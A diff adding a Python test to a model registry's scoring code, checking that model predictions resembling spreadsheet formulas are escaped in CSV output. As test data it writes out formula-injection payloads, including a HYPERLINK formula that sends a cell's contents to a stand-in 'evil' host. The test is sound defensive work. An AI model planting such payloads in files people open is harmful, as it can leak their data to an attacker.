@@ -4,17 +4,21 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
+import joblib
 import numpy as np
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from sklearn.neighbors import KNeighborsClassifier
 
 from registry import predict, scoring
 from registry.core import Registry
 from registry.errors import BrokenArtifact, InvalidInput
 from registry.records import Actor, BadRow, Version
+from tests.conftest import Publish
 from tests.registry.scoring.conftest import Score, Stage
 
 
@@ -90,6 +94,22 @@ def test_a_row_answered_with_no_number_is_one_without_an_answer(
     assert found["problem"].notna().tolist() == [n == 2 for n in range(150)]
     assert "no number" in found["problem"][2]
     assert found["prediction"].notna().sum() >= 149
+
+
+def test_words_of_a_model_are_no_formula(
+    alice: Actor, publish_file: Publish, score: Score, tmp_path: Path
+) -> None:
+    said = ['=HYPERLINK("http://evil/?"&A2)', "@SUM(A1)", "-1", "+2+cmd"]
+    model = KNeighborsClassifier(1).fit(np.arange(4.0).reshape(-1, 1), said)
+    joblib.dump(model, tmp_path / "said.joblib")
+    ref = publish_file(alice, tmp_path / "said.joblib", name="Said").ref
+    given = pd.DataFrame({"x0": [0, 1, 2, 3], "mine": ["=1+1", "@A", "-1", "x"]})
+    _, data = score(_csv(given), ref=ref)
+    header, *rows = _cells(data)
+    at = header.index("prediction")
+    assert [row[at] for row in rows] == [f"'{said[0]}", f"'{said[1]}", "-1", f"'{said[3]}"]
+    assert [row[1] for row in rows] == list(given["mine"])
+    assert not [name for name in header if name.startswith(("=", "@", "+", "-"))]
 
 
 def test_parquet_stays_parquet_with_its_types(flowers: pd.DataFrame, score: Score) -> None:
